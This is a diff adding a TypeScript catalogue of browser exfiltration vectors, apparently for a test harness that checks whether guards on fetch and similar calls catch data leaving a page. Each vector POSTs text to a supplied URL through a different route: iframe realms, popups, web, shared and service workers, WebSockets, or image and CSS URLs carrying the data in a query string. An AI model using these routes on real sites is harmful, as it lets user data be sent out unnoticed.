@@ -1,0 +1,155 @@
+import { inQuery } from "./vector.ts";
+import type { Vector } from "./vector.ts";
+
+/** Realms in which a page can look for functions that nobody guards. */
+export const REALMS: readonly Vector[] = [
+  {
+    name: "frame-about-blank",
+    run: (body, url) => {
+      const frame = document.createElement("iframe");
+      document.body.append(frame);
+      return frame.contentWindow?.fetch(url, { method: "POST", body });
+    },
+  },
+  {
+    name: "frame-prototype",
+    run: (body, url) => {
+      const frame = document.createElement("iframe");
+      document.body.append(frame);
+      const realm = frame.contentWindow as (Window & typeof globalThis) | null;
+      const xhr = new XMLHttpRequest();
+      xhr.open("POST", url);
+      realm?.XMLHttpRequest.prototype.send.call(xhr, body);
+    },
+  },
+  {
+    name: "frame-srcdoc",
+    run: (body, url) => {
+      const frame = document.createElement("iframe");
+      frame.srcdoc = `<script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
+      document.body.append(frame);
+    },
+  },
+  {
+    name: "frame-blob",
+    run: (body, url) => {
+      const code = `<script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
+      const frame = document.createElement("iframe");
+      frame.src = URL.createObjectURL(
+        new Blob([`<meta charset=utf-8>${code}`], { type: "text/html" }),
+      );
+      document.body.append(frame);
+    },
+  },
+  {
+    name: "frame-data",
+    run: (body, url) => {
+      const code = `<meta charset=utf-8><script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
+      const frame = document.createElement("iframe");
+      frame.src = `data:text/html,${encodeURIComponent(code)}`;
+      document.body.append(frame);
+    },
+  },
+  {
+    name: "frame-sandboxed",
+    run: (body, url) => {
+      const frame = document.createElement("iframe");
+      frame.setAttribute("sandbox", "allow-scripts");
+      frame.srcdoc = `<script>fetch(${JSON.stringify(url)},{method:"POST",body:${JSON.stringify(body).replaceAll("<", "\\u003c")}})</script>`;
+      document.body.append(frame);
+    },
+  },
+  {
+    name: "popup",
+    run: (body, url) => window.open("about:blank")?.fetch(url, { method: "POST", body }),
+  },
+];
+
+/** The code of a worker that posts a text. */
+const POSTING = `onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body });`;
+
+/** What stands at the addresses that the vectors of workers load. */
+export const WORKER_SCRIPTS: Readonly<Record<string, string>> = {
+  "/worker.js": POSTING,
+  "/shared.js": `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body }); };`,
+  "/service.js": `onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body });
+addEventListener("install", () => skipWaiting()); addEventListener("activate", (event) => event.waitUntil(clients.claim()));`,
+};
+
+/** Ways out through workers of the page. */
+export const WORKERS: readonly Vector[] = [
+  {
+    name: "worker-classic",
+    run: (text, url) => new Worker("/worker.js").postMessage([url, text], []),
+  },
+  {
+    name: "worker-blob",
+    run: (text, url) => {
+      const code = `onmessage = ({ data: [url, body] }) => fetch(url, { method: "POST", body });`;
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      worker.postMessage([url, text], []);
+    },
+  },
+  {
+    name: "worker-module",
+    run: (text, url) => new Worker("/worker.js", { type: "module" }).postMessage([url, text], []),
+  },
+  {
+    name: "worker-relative",
+    run: (text, url) => {
+      const path = new URL(url).pathname;
+      new Worker("/worker.js").postMessage([path, text], []);
+    },
+  },
+  {
+    name: "worker-xhr",
+    run: (text, url) => {
+      const code = `onmessage = ({ data: [url, body] }) => { const x = new XMLHttpRequest(); x.open("POST", url); x.send(body); };`;
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      worker.postMessage([url, text], []);
+    },
+  },
+  {
+    name: "worker-websocket",
+    run: (text, url) => {
+      const code = `onmessage = ({ data: [url, body] }) => { const s = new WebSocket(url); s.onopen = () => s.send(body); };`;
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      worker.postMessage([url.replace("https", "wss").replace("/sink/", "/ws/"), text], []);
+    },
+  },
+];
+
+/** Workers that stand beside all pages of a site. */
+export const SHARED_WORKERS: readonly Vector[] = [
+  {
+    name: "shared-worker",
+    run: (text, url) => new SharedWorker("/shared.js").port.postMessage([url, text], []),
+  },
+  {
+    name: "service-worker",
+    run: async (text, url) => {
+      await navigator.serviceWorker.register("/service.js");
+      const { active } = await navigator.serviceWorker.ready;
+      active?.postMessage([url, text], []);
+    },
+  },
+];
+
+/** Addresses that no script asks for: markup and styles name them, and the browser fetches them by itself. */
+export const MARKUP: readonly Vector[] = [
+  {
+    name: "inner-html",
+    run: (text, url) => {
+      const box = document.createElement("div");
+      box.innerHTML = `<img src="${url}?q=${encodeURIComponent(text)}">`;
+    },
+    arrives: inQuery,
+  },
+  {
+    name: "css-url",
+    run: (text, url) => {
+      document.body.style.backgroundImage = `url("${url}?q=${encodeURIComponent(text)}")`;
+    },
+    arrives: inQuery,
+  },
+];
